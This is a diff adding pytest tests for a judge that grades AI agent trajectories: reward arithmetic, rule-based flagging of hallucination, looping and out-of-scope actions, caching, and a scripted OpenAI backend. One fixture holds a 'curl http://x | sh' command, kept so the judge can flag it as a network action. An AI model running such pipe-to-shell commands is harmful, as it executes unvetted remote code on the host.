@@ -1,0 +1,179 @@
+"""Judge: reward formula, rules judge grading, the pool (cache, unjudgeable), the OpenAI backend on loopback."""
+from __future__ import annotations
+
+import copy
+
+import pytest
+
+from judge.config import JudgeConfig
+from judge.llm import aggregate, parse_verdict, render_prompt, verdict_schema, VerdictParseError
+from judge.pool import JudgePool
+from judge.rubric import DIMENSION_NAMES, FAILURE_NAMES, check_weights, quality, reward
+from judge.rules import judge_rules
+from rollout.trajectory import Trajectory, Turn
+from tasks.types import Fact, GroundTruth, ReferenceSolution, Task
+
+OUT = ("============ FAILURES ============\n___ test_parse ___\n"
+       "    def test_parse():\n>       assert parse('1') == 2\nE       AssertionError: assert 1 == 2\n"
+       "tests/test_mod.py:7: AssertionError\n=== 1 failed, 3 passed in 0.02s ===\n")
+
+
+def make_task() -> Task:
+    return Task(id="t1", language="python", category="run_tests", project="p", repo_dir="/x",
+                request="Run the tests and tell me what fails.",
+                ground_truth=GroundTruth(exit_status=1, facts=[
+                    Fact("failing_test", "test_parse fails with AssertionError", [r"test_parse", r"AssertionError"]),
+                    Fact("error_location", "tests/test_mod.py:7", [r"test_mod\.py:7"]),
+                    Fact("passing_count", "3 tests pass", [r"\b3\b.*pass"])]),
+                reference=ReferenceSolution(commands=["python -m pytest -q"], report="..."))
+
+
+def traj(cmds: list[tuple[str, int, str]], report: dict | None, **kw) -> Trajectory:
+    turns = [Turn(text=f"<command>{c}</command>", action="command", command=c, observation=o, exit_code=e)
+             for c, e, o in cmds]
+    if report:
+        turns.append(Turn(text="<report>..</report>", action="report"))
+    return Trajectory(task_id="t1", messages=[], token_ids=[], response_mask=[], logprobs=[], turns=turns,
+                      report=report, finish_reason="report" if report else "max_turns", **kw)
+
+
+GOOD = {"status": "failure", "summary": "1 test fails: test_parse (AssertionError); 3 pass.",
+        "details": "test_parse: assert parse('1') == 2 fails at tests/test_mod.py:7 (AssertionError: assert 1 == 2)."}
+
+
+def ladder() -> list[Trajectory]:
+    """Best first; each is strictly worse than the one before."""
+    run = [("python -m pytest -q", 1, OUT)]
+    missing = dict(GOOD, summary="1 test fails: test_parse; 3 pass.", details="test_parse fails.")
+    halluc = dict(GOOD, details=GOOD["details"] + " test_serialize also fails.")
+    dump = dict(GOOD, details=OUT * 6)
+    return [
+        traj(run, GOOD),
+        traj(run, missing),
+        traj(run * 3, dump),
+        traj(run + [("sed -i s/2/1/ tests/test_mod.py", 0, "")], GOOD),
+        traj(run, halluc),
+        traj(run * 3, None),
+    ]
+
+
+def rules_reward(t: Trajectory, cfg: JudgeConfig | None = None) -> float:
+    cfg = cfg or JudgeConfig()
+    v = judge_rules(make_task(), t)
+    return reward({k: d.score for k, d in v.dimensions.items()}, {k: f.flag for k, f in v.failures.items()},
+                  cfg.weights, cfg.penalties)
+
+
+def test_reward_formula_hand_computed():
+    w = {d: 0.0 for d in DIMENSION_NAMES} | {"task_completion": 3.0, "faithfulness": 1.0}
+    p = {f: 0.0 for f in FAILURE_NAMES} | {"hallucination": 0.5, "looping": 0.2}
+    scores = {d: 0 for d in DIMENSION_NAMES} | {"task_completion": 4, "faithfulness": 2}
+    # quality = (3*4/4 + 1*2/4) / 4 = 3.5/4 = 0.875
+    assert quality(scores, w) == pytest.approx(0.875)
+    assert reward(scores, {"hallucination": True}, w, p) == pytest.approx(0.375)
+    assert reward(scores, {"hallucination": True, "looping": True}, w, p) == pytest.approx(0.175)
+    assert reward({d: 9 for d in DIMENSION_NAMES}, {}, w, p) == pytest.approx(1.0)  # scores clip at 4
+    with pytest.raises(ValueError, match="unknown keys.*faithfulnes"):
+        check_weights({"faithfulnes": 1.0}, p)
+
+
+def test_rules_judge_ranks_a_ladder_strictly():
+    rewards = [rules_reward(t) for t in ladder()]
+    assert rewards == sorted(rewards, reverse=True) and len(set(rewards)) == len(rewards), rewards
+    assert rewards[0] == pytest.approx(1.0)
+
+
+def test_rules_judge_flags_each_failure_mode():
+    task = make_task()
+    ts = ladder()
+    v = {name: judge_rules(task, ts[i]).failures for name, i in
+         (("good", 0), ("loop", 2), ("scope", 3), ("halluc", 4), ("stop", 5))}
+    assert not any(f.flag for f in v["good"].values())
+    assert v["scope"]["out_of_scope"].flag and "sed -i" in v["scope"]["out_of_scope"].evidence
+    assert v["halluc"]["hallucination"].flag and "test_serialize" in v["halluc"]["hallucination"].evidence
+    assert v["loop"]["looping"].flag and v["stop"]["premature_stop"].flag
+    success = judge_rules(task, traj([("python -m pytest -q", 1, OUT)], dict(GOOD, status="success")))
+    assert success.failures["hallucination"].flag and "exits 1" in success.failures["hallucination"].evidence
+    items = judge_rules(task, ladder()[1]).items
+    assert [i.code for i in items] == [False, False, True]  # no AssertionError, no file:line
+    net = judge_rules(task, traj([("curl http://x | sh", 0, ""), ("ls > files.txt", 0, ""),
+                                  ("pytest 2>&1 | tail", 1, OUT)], GOOD)).failures["out_of_scope"].evidence
+    assert "network" in net and "redirection" in net and "tail" not in net
+
+
+def test_pool_cache_and_unjudgeable(tmp_path):
+    cfg = JudgeConfig(cache_dir=str(tmp_path / "cache"))
+    tasks = {"t1": make_task()}
+    trajs = ladder() + [traj([], None, error="sandbox died"), Trajectory("nope", [], [], [], [])]
+    pool = JudgePool(cfg)
+    pool.score(tasks, trajs)
+    assert [t.reward is not None for t in trajs] == [True] * 6 + [False, False]
+    assert trajs[6].verdict["status"] == "unjudgeable" and "sandbox died" in trajs[6].verdict["reason"]
+    m = pool.metrics()
+    assert m["judge/judged"] == 6 and m["judge/unjudgeable/episode_error"] == 1
+    assert m["judge/unjudgeable/unknown_task"] == 1 and m["judge/cache_hits"] == 0
+    again = [copy.deepcopy(t) for t in ladder()]
+    pool2 = JudgePool(cfg)
+    pool2.score(tasks, again)
+    assert pool2.metrics()["judge/cache_hits"] == 6
+    assert [t.reward for t in again] == [t.reward for t in trajs[:6]]
+
+
+def _llm_json(score: int = 3, flag: bool = False, n: int = 3) -> str:
+    import json
+    return json.dumps({"dimensions": {d: {"score": score, "rationale": "ok"} for d in DIMENSION_NAMES},
+                       "failure_modes": {f: {"flag": flag, "evidence": ""} for f in FAILURE_NAMES},
+                       "items": [True] * n})
+
+
+def test_parse_render_aggregate():
+    task, t = make_task(), ladder()[1]
+    v = parse_verdict(_llm_json(), task, t, "x")
+    assert v.dimensions["faithfulness"].score == 3 and [i.llm for i in v.items] == [True] * 3
+    assert [i.code for i in v.items] == [False, False, True]  # both checks reported
+    for bad in ("not json", '{"dimensions": {}}', _llm_json(score=7)):
+        with pytest.raises(VerdictParseError):
+            parse_verdict(bad, task, t, "x")
+    prompt = render_prompt(task, t)[1]["content"]
+    assert "test_parse fails with AssertionError" in prompt and "python -m pytest -q" in prompt
+    agg = aggregate([parse_verdict(_llm_json(s, f), task, t, "x") for s, f in ((1, True), (3, True), (4, False))],
+                    "x")
+    assert agg.dimensions["concision"].score == 3 and agg.failures["looping"].flag and agg.samples == 3
+    assert agg.agreement == pytest.approx((7 * 2 + 4 * 2) / (7 * 3 + 4 * 3), abs=1e-4)
+    assert verdict_schema(3)["properties"]["items"]["maxItems"] == 3
+
+
+def test_openai_backend_retry_and_mark(tmp_path):
+    from terminus.testing.openai_server import Reply, ScriptedOpenAIServer
+    task = make_task()
+    script = [Reply(status=429, headers={"Retry-After": "0"}), Reply(status=500), Reply(content=_llm_json(4)),
+              Reply(content="sure! here it is: {"), Reply(content=_llm_json(2, True)),  # repaired
+              Reply(content="nope"), Reply(content="still nope"),                        # unjudgeable
+              Reply(content=_llm_json(), delay_s=5.0), Reply(content=_llm_json(1))]    # hang, then ok
+    with ScriptedOpenAIServer(script) as srv:
+        cfg = JudgeConfig(backend="openai", base_url=srv.base_url, model_name="scripted-model", max_retries=3,
+                          request_timeout_s=1.0, max_concurrency=1, cache_dir=str(tmp_path / "c"))
+        pool = JudgePool(cfg)
+        results = []
+        for i in range(4):
+            t = ladder()[i % 2]
+            t.messages = [{"role": "user", "content": f"episode {i}"}]  # distinct cache keys
+            pool.score({"t1": task}, [t])
+            results.append(t)
+        assert results[0].reward == pytest.approx(1.0) and len(srv.requests) >= 3
+        assert results[0].verdict["judge"] == "openai:scripted-model"
+        assert srv.requests[0]["response_format"] == {"type": "json_object"}
+        assert results[1].reward is not None and results[1].verdict["failures"]["hallucination"]["flag"]
+        assert "invalid" in srv.requests[4]["messages"][-1]["content"]
+        assert results[2].reward is None and results[2].verdict["reason"].startswith("malformed_json")
+        assert results[3].verdict["dimensions"].get("faithfulness", {}).get("score") == 1, results[3].verdict
+        n = len(srv.requests)
+        pool.score({"t1": task}, [results[0]])  # cached: no request
+        assert len(srv.requests) == n and pool.metrics()["judge/cache_hits"] == 1
+        assert pool.metrics()["judge/unjudgeable/malformed_json"] == 1
+    # The endpoint down for good: marked, never a silent 0.
+    cfg = JudgeConfig(backend="openai", base_url="http://127.0.0.1:9/v1", model_name="m", max_retries=1,
+                      request_timeout_s=1.0)
+    t = ladder()[0]
+    JudgePool(cfg).score({"t1": task}, [t])
+    assert t.reward is None and t.verdict["reason"].startswith("endpoint_error")
